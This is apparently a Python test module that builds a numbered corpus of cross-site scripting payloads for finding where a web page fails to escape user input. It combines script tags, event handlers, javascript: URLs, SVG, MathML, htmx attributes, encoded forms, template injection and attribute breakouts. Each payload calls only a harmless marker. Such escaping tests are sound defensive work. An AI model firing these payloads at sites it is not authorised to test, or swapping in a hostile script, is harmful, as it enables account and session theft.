"""Cross-site scripting payloads, each carrying its own number.

A payload that runs calls ``xss(n)`` (or ``alert(n)``), so a trap in the page can
say exactly which one got through. The vectors cover raw tags, event handlers,
``javascript:`` URLs, SVG and MathML, attribute and element breakouts, encoded
variants, htmx attributes, template injection and markdown-ish links; each is
tried bare and behind the breakouts a value could sit in (text, a double- or
single-quoted attribute, a comment).
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass

CALL = "xss({n})"

VECTORS = [
    "<script>xss({n})</script>",
    "<img src=x onerror=xss({n})>",
    "<IMG SRC=x OnErRoR=xss({n})>",
    "<img/src=x/onerror=xss({n})>",
    "<img src=x\tonerror=xss({n})>",
    "<img src=x\nonerror=xss({n})>",
    '<img src=x onerror="&#120;ss({n})">',
    "<img src=x onerror=window['xs'+'s']({n})>",
    "<img src=x onerror=alert({n})>",
    "<svg onload=xss({n})>",
    "<svg/onload=xss({n})//",
    "<svg><script>xss({n})</script></svg>",
    "<svg><animate onbegin=xss({n}) attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:xss({n})"><text x=9 y=9>x</text></a></svg>',
    "<svg><style><img src=x onerror=xss({n})></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=xss({n})>",
    '<math href="javascript:xss({n})">x</math>',
    "<body onload=xss({n})>",
    '<iframe src="javascript:xss({n})"></iframe>',
    '<iframe srcdoc="<script>parent.xss({n})</script>"></iframe>',
    '<a href="javascript:xss({n})">link</a>',
    '<a href="&#106;avascript:xss({n})">link</a>',
    '<a href="jav&#x09;ascript:xss({n})">link</a>',
    '<a href=" JaVaScRiPt:xss({n})">link</a>',
    '<a href="data:text/html,<script>xss({n})</script>">link</a>',
    "<details open ontoggle=xss({n})>",
    "<video><source onerror=xss({n})></video>",
    "<audio src=x onerror=xss({n})>",
    "<input autofocus onfocus=xss({n})>",
    "<marquee onstart=xss({n})>m</marquee>",
    '<object data="javascript:xss({n})"></object>',
    '<embed src="javascript:xss({n})">',
    '<form><button formaction="javascript:xss({n})">b</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:xss({n})">',
    '<base href="javascript:xss({n})//">',
    '<div hx-get="/" hx-trigger="load" hx-on::before-request="xss({n})">h</div>',
    '<div hx-on:htmx:load="xss({n})">h</div>',
    '<div hx-vals=\'js:{{a:xss({n})}}\' hx-get="/" hx-trigger="load">h</div>',
    "<x onclick=xss({n})>x</x>",
    '<table background="javascript:xss({n})">',
    "<scr<script>ipt>xss({n})</scr</script>ipt>",
    '<noscript><p title="</noscript><img src=x onerror=xss({n})>">',
    '<!--<img src="--><img src=x onerror=xss({n})//">',
    "<style>@import 'javascript:xss({n})';</style>",
    "</script><script>xss({n})</script>",
    "</textarea><img src=x onerror=xss({n})>",
    "</title><img src=x onerror=xss({n})>",
    "</style><img src=x onerror=xss({n})>",
    "</option></select><img src=x onerror=xss({n})>",
    "&lt;img src=x onerror=xss({n})&gt;",
    "%3Cimg%20src%3Dx%20onerror%3Dxss({n})%3E",
    "\\u003cimg src=x onerror=xss({n})\\u003e",
    "＜script＞xss({n})＜/script＞",
    "'-xss({n})-'",
    '";xss({n});//',
    '{{{{ "xss-tpl-{n}"|upper }}}}',
    "{{{{constructor.constructor('xss({n})')()}}}}",
    "${{xss({n})}}",
    "[link](javascript:xss({n}))",
    '![x](x" onerror="xss({n}))',
    '<https://example.com/" onmouseover="xss({n})>',
    'https://example.com/?q="><img src=x onerror=xss({n})>',
    'www.example.com/"onmouseover="xss({n})',
    "javascript:xss({n})",
]

# Where a value might be placed: plain text, inside a quoted attribute, inside a comment.
BREAKOUTS = ["", '">', "'>", "-->"]


@dataclass(frozen=True)
class Payload:
    number: int
    text: str


def payloads() -> list[Payload]:
    result = []
    for prefix in BREAKOUTS:
        for vector in VECTORS:
            number = 1000 + len(result)
            result.append(Payload(number, prefix + vector.format(n=number)))
    return result


CORPUS = payloads()
BY_NUMBER = {p.number: p for p in CORPUS}


def everything() -> str:
    """All payloads in one text, one a line."""
    return "\n".join(p.text for p in CORPUS)


def packed(limit: int) -> Iterator[str]:
    """All payloads, packed greedily into values of at most ``limit`` characters."""
    chunk = ""
    for payload in CORPUS:
        text = payload.text
        if len(text) > limit:
            raise ValueError(f"payload {payload.number} does not fit in {limit} characters")
        if chunk and len(chunk) + 1 + len(text) > limit:
            yield chunk
            chunk = ""
        chunk = f"{chunk} {text}" if chunk else text
    if chunk:
        yield chunk


def template_markers() -> list[str]:
    """What the page would show if user text were ever rendered as a Django template."""
    return [f"XSS-TPL-{p.number}" for p in CORPUS if "xss-tpl" in p.text]
